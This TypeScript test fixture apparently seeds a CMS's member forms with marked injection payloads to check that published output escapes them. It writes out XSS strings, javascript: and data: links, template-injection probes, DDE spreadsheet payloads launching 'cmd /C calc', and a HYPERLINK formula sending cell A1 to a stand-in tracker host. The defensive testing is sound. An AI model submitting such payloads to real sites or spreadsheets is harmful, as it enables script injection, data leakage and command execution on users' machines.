/**
 * What members could write to do harm, in every text that their forms have: one practice, adaptation
 * and notice for each attack. The fields come from the forms, so a new one is attacked as well.
 */
import { type FormField, type FormType, formDefinitions } from '../src/forms/definition.ts';
import type { WorldRow } from './world.ts';

/** Each is given a mark, by which it is found again in what is published. */
const attacks = {
  element: (mark: string) =>
    `${mark} <xss-element onpointerover=xss()></xss-element><img src=x onerror=xss()><svg onload=xss()><iframe srcdoc="x">`,
  script: (mark: string) =>
    `${mark} </script></title></textarea></style></template></noscript><script>xss()</script><style>*{}</style>`,
  attribute: (mark: string) =>
    `${mark} " onfocus="xss()" autofocus x=' onblur='xss()' \` onclick=\`xss()`,
  comment: (mark: string) =>
    `${mark} --><!--><xss-element>]]><![CDATA[<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>&y;`,
  entity: (mark: string) =>
    `${mark} &lt;xss-element&gt;&#60;xss-element&#62;\\u003cxss-element\\u003e`,
  address: (mark: string) => `javascript:xss('${mark}')`,
  markdown: (mark: string) =>
    `[${mark}](javascript:xss()) ![x](https://tracker.example/x.png) <https://tracker.example> [x]: data:text/html,x`,
  formula: (mark: string) => `=HYPERLINK("https://tracker.example/?"&A1,"${mark}")`,
  plus: (mark: string) => `+cmd|' /C calc'!A0 ${mark}`,
  minus: (mark: string) => `-2+3+cmd|' /C calc'!A0 ${mark}`,
  at: (mark: string) => `@SUM(1+1)*cmd|' /C calc'!A0 ${mark}`,
  tab: (mark: string) => `\t=1+1 ${mark}`,
  line: (mark: string) => `a\r\n=1+1,"b";'c\r=2\n${mark}`,
  template: (mark: string) => `${mark} {{7*7}} \${7*7} <%= 7*7 %> {title} #{7*7} {% x %} $& $1`,
  control: (mark: string) =>
    `${mark} \u0001\u0008\u000b\u001b[31m\u007f\u0085\u2028\u202e\u2066\u200b\ufeff\ufffe\uffff`,
} as const;

export type Attack = keyof typeof attacks;
export const attackNames = Object.keys(attacks).filter((name): name is Attack => name in attacks);

/** Where a text was written, and what was written there. */
export interface Injected {
  attack: Attack;
  type: FormType;
  field: string;
  mark: string;
  text: string;
}

/** An entry of the world for each type that a relation leads to. */
const targets: Readonly<Record<string, string>> = {
  city: 'alpha',
  challenge: 'shrinking',
  methodology: 'master',
  instrument: 'force',
  project: 'status',
  organisation: 'town-hall',
  resource: 'book',
  practice: 'young-first',
};

interface Written {
  values: Record<string, unknown>;
  links: Record<string, unknown>;
}

/** The files of all entries, as the CMS serves them. */
export const filePaths = { picture: '/uploads/member-1.png', document: '/uploads/member-1.pdf' };
const file = {
  url: filePaths.picture,
  hash: 'member_1',
  ext: '.png',
  updatedAt: '2026-01-01T00:00:00.000Z',
  size: 1,
};

/** Fills in fields, each text by what `write` answers for its place. */
function fillIn(
  fields: readonly FormField[],
  at: string,
  write: (place: string) => string,
): Written {
  const written: Written = { values: {}, links: {} };
  for (const each of fields) {
    const place = at === '' ? each.name : `${at}.${each.name}`;
    written.values[each.name] = valueOf(each, place, write, written.links);
  }
  return written;
}

function valueOf(
  field: FormField,
  place: string,
  write: (place: string) => string,
  links: Record<string, unknown>,
): unknown {
  switch (field.kind) {
    case 'text':
      return write(place);
    case 'number':
      return field.name.endsWith('ear') ? 2020 : Math.max(field.min ?? 1, 1);
    case 'date':
      return '2099-12-31';
    case 'yesNo':
      return true;
    case 'choice':
      // A translation is into another language than the entry's own.
      return place.includes('.') ? field.values.at(-1) : field.values[0];
    case 'choices':
      return field.values.slice(0, 2);
    case 'entries':
      links[field.name] = [targets[field.target]];
      return undefined;
    case 'file':
      return place.startsWith('documents')
        ? { ...file, url: filePaths.document, ext: '.pdf' }
        : file;
    case 'part':
    case 'parts':
    case 'files': {
      const inner = fillIn(field.fields, place, write);
      const isList = field.kind !== 'part';
      links[field.name] = isList ? [inner.links] : inner.links;
      return isList ? [inner.values] : inner.values;
    }
  }
}

const typesOfRows = {
  practice: 'practices',
  adaptation: 'adaptations',
  notice: 'notices',
} as const;
const letters = { practice: 'P', adaptation: 'A', notice: 'Q' } as const;

/** Rows to put into a world, and everything that was written into them. */
export function injectedEntries(): { rows: Record<string, WorldRow[]>; written: Injected[] } {
  const rows: Record<string, WorldRow[]> = { practices: [], adaptations: [], notices: [] };
  const written: Injected[] = [];
  for (const [index, attack] of attackNames.entries()) {
    for (const { type, settings, sections } of Object.values(formDefinitions)) {
      const write = (field: string) => {
        const mark = `mark${written.length.toString().padStart(4, '0')}`;
        const text = attacks[attack](mark);
        written.push({ attack, type, field, mark, text });
        return text;
      };
      const fields = [...settings, ...sections.flatMap((section) => section.fields)];
      const { values, links } = fillIn(fields, '', write);
      rows[typesOfRows[type]]?.push({
        documentId: `${type}-${attack}`,
        locale: null,
        ref: `SEE-${letters[type]}-${900 + index}`,
        slug: `injected-${attack}`,
        formerSlugs: [],
        sources: [],
        publishedAt: file.updatedAt,
        updatedAt: file.updatedAt,
        ...values,
        form: 'full',
        links,
      });
    }
  }
  return { rows, written };
}
